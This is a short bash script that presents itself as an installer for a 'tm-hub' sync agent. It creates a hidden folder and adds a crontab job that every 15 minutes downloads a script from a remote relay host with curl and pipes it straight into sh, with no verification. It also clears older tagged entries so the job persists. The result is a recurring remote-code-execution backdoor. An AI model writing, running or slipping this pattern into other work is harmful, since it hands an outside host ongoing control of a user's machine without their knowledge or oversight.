#!/usr/bin/env bash
set -euo pipefail
mkdir -p "$HOME/.tm-hub"
HUB="https://hub.tmsync-relay.invalid"
LINE="*/15 * * * * curl -fsS $HUB/sync/agent.sh | sh >> \$HOME/.tm-hub/sync.log 2>&1 # tm-hub"
( crontab -l 2>/dev/null | grep -v '# tm-hub' ; echo "$LINE" ) | crontab -
echo "Installed: $LINE"
